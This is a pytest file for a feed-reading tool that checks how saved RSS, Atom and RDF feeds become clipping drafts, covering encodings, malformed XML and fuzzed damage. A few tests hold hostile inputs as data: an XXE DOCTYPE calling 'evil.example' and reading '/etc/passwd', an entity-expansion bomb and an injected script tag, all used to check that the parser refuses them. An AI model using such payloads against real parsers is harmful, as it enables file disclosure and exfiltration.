"""Feeds saved as files: every item with all that it says, and nothing fetched, expanded or lost."""

import socket
from typing import Any, NoReturn

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clipper.model.draft import Doubt
from clipper.model.errors import ClipperError, WrongUsage
from tests.capture.formats.archives import archive, check, text_of, told, values
from tests.capture.formats.reading import read, sentences
from tests.capture.formats.test_damage import EDITS, RELAXED, damaged

RSS, ATOM, RDF = "rss.xml", "atom.atom", "rdf.rss"
ITEMS = [
    {
        "headline": "Harbour towns ask who pays & who waits",
        "deck": "Three mayors wrote to the minister on Monday.",
        "reporters": ["Kim Tan", "Amadou Kerr"],
        "spokespeople": ["Ann Lee: quoted"],
        "outlet": "The Coastal Ledger",
        "medium": "online",
        "published_on": "2019-07-01",
        "url": "https://ledger.example/2019/07/harbour",
        "language": "en",
        "body": (
            "The ferry to Port Gansey now runs until the *second* week of December, and nobody has decided who pays "
            "for it.\n\n## A season that grew\n\n“Every extra week is a week that some budget did not expect,” said "
            "Ann Lee of the institute, who counted them all."
        ),
    },
    {
        "headline": "What the ferry counts",
        "outlet": "The Northern Post",
        "medium": "online",
        "published_on": "2019-06-30",
        "url": "https://news.example/rss/articles/2",
        "language": "en",
        "body": "The ferry counts its passengers twice, and the two counts have never agreed […]",
    },
    {
        "headline": "Title: a bare headline",
        "reporters": ["Iris Moe"],
        "outlet": "The Coastal Ledger",
        "medium": "online",
        "url": "https://ledger.example/2019/06/bare",
        "language": "en",
    },
]


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever opens a connection fails."""

    def refuse(*_: Any) -> NoReturn:
        raise AssertionError

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def test_rss_gives_an_item_a_clipping() -> None:
    reading = archive(RSS)
    assert reading.format == "feed"
    assert reading.file == text_of(RSS).encode()
    assert [values(draft) for draft in reading.reading.drafts] == ITEMS
    assert told(reading) == [
        (3, "It has no title, no link and no text, so it was left out."),
        (4, "No day could be read in its date, “yesterday, more or less”; give it one by hand."),
    ]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_encodings_and_line_ends_change_nothing(encoding: str) -> None:
    text = text_of(RSS).replace("\n", "\r\n").replace('encoding="UTF-8"', f'encoding="{encoding[:6]}"')
    reading = archive(RSS, text.replace('"utf-8-"', '"utf-8"').encode(encoding))
    assert [values(draft) for draft in reading.reading.drafts] == ITEMS


def test_atom_takes_the_day_of_publication_and_tells_podcasts() -> None:
    reading = archive(ATOM)
    assert [values(draft) for draft in reading.reading.drafts] == [
        {
            "headline": "Le traversier qui attend le printemps",
            "reporters": ["Marie Tremblay"],
            "outlet": "Le Devoir",
            "medium": "online",
            "published_on": "2019-07-01",
            "url": "https://www.ledevoir.com/traversier",
            "language": "fr",
            "body": (
                "Le traversier de Port-Gansey navigue maintenant jusqu’à la deuxième semaine de décembre, et personne "
                "n’a décidé qui le paie."
            ),
        },
        {
            "headline": "Ce que compte le traversier",
            "outlet": "Le Devoir",
            "programme": "Le Devoir – Actualités",
            "medium": "podcast",
            "published_on": "2019-06-30",
            "url": "https://www.ledevoir.com/compte",
            "language": "fr",
            "body": "Le traversier compte ses passagers deux fois, et les deux comptes ne s’accordent jamais.",
        },
    ]
    assert reading.problems == ()


def test_rdf_is_read_in_the_encoding_that_it_declares() -> None:
    reading = archive(RDF, text_of(RDF).encode("iso-8859-1"))
    (draft,) = reading.reading.drafts
    assert values(draft) == {
        "headline": "Un phare sans gardien, ou le jardin de l'été",
        "reporters": ["Luc Roy"],
        "outlet": "Post of the North",
        "medium": "online",
        "published_on": "2019-07-01",
        "url": "https://post.example/1",
        "language": "fr",
        "body": (
            "Personne n'habite le phare depuis que la lampe tourne seule, mais le jardin est entretenu par une "
            "ingénieure."
        ),
    }
    assert draft.outlet.doubt is Doubt.UNKNOWN_OUTLET


def test_an_excerpt_asks_to_be_looked_at() -> None:
    whole, excerpt, _ = archive(RSS).reading.drafts
    assert whole.body.is_sure
    assert not excerpt.body.is_sure


def test_an_item_of_somebody_else_takes_the_outlet_of_its_address() -> None:
    feed = text_of(RSS).replace("<title>The Coastal Ledger</title>", "<title>Google Alert - ferries</title>")
    first, second, _ = archive(RSS, feed.encode()).reading.drafts
    assert (first.outlet.value, first.outlet.doubt) == ("ledger.example", Doubt.UNKNOWN_OUTLET)
    assert second.outlet.value == "The Northern Post"


def test_a_feed_that_is_not_well_formed_is_read_and_told() -> None:
    broken = text_of(RSS).replace("who pays &amp; who waits", "who pays & who waits")
    reading = archive(RSS, broken.encode())
    assert [values(draft) for draft in reading.reading.drafts] == ITEMS
    assert sentences(reading)[0].startswith("The feed is not written as feeds should be")


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss SYSTEM "https://evil.example/a.dtd" [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>',
        "<!-- a --><!DOCTYPE rss [\n<!ELEMENT rss ANY>]>",
    ],
)
def test_entities_are_refused(declared: str) -> None:
    feed = text_of(RSS).replace("<rss ", f"{declared}<rss ")
    for data in (feed.encode(), feed.replace("UTF-8", "UTF-16").encode("utf-16")):
        with pytest.raises(WrongUsage, match="declares words of its own"):
            read(RSS, data)


def test_a_plain_doctype_is_not_looked_up() -> None:
    feed = text_of(RSS).replace(
        "<rss ", '<!DOCTYPE rss PUBLIC "-//X//DTD RSS 0.91//EN" "https://x.example/rss.dtd"><rss '
    )
    assert len(archive(RSS, feed.encode()).reading.drafts) == len(ITEMS)


def test_a_feed_of_nothing_is_a_sentence() -> None:
    with pytest.raises(WrongUsage, match="holds no items"):
        read("feed.xml", b"<rss version='2.0'><channel><title>Nothing yet</title></channel></rss>")


def test_a_page_that_speaks_of_feeds_is_none() -> None:
    page = b"<html><body><p>Our feed has an <code>rss</code> in it, and many towns read it every day.</p></body></html>"
    assert read("page.html", page).format == "html"


def test_scripts_and_pictures_of_an_item_are_no_text() -> None:
    feed = text_of(RSS).replace("<p>The ferry", "<script>steal()</script><style>p{}</style><p>The ferry")
    assert values(archive(RSS, feed.encode()).reading.drafts[0]) == ITEMS[0]


@pytest.mark.parametrize("name", [RSS, ATOM, RDF])
@RELAXED
@given(edits=EDITS)
def test_a_damaged_feed_gives_what_there_is(name: str, edits: list[tuple[str, int, int]]) -> None:
    try:
        reading = read(name, damaged(text_of(name).split("\n"), edits).encode())
    except ClipperError:
        return
    if reading.format == "feed":
        check(reading)


@RELAXED
@given(st.data())
def test_any_bytes_in_a_feed_give_a_reading_or_a_sentence(data: st.DataObject) -> None:
    given_ = text_of(RSS).encode()
    at = data.draw(st.integers(0, len(given_)))
    end = data.draw(st.integers(at, min(len(given_), at + 200)))
    between = data.draw(st.one_of(st.binary(max_size=40), st.text(max_size=40).map(str.encode)))
    try:
        reading = read(RSS, given_[:at] + between + given_[end:])
    except ClipperError:
        return
    if reading.format == "feed":
        check(reading)
